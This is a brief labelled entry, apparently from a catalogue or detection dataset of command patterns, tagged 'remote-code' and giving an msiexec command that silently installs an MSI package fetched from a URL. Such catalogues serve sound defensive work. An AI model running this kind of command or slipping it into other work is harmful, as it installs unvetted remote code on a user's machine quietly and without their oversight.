# description: Installs an MSI straight from a URL with msiexec.
# family: remote-code
msiexec /i https://example.com/agent.msi /qn
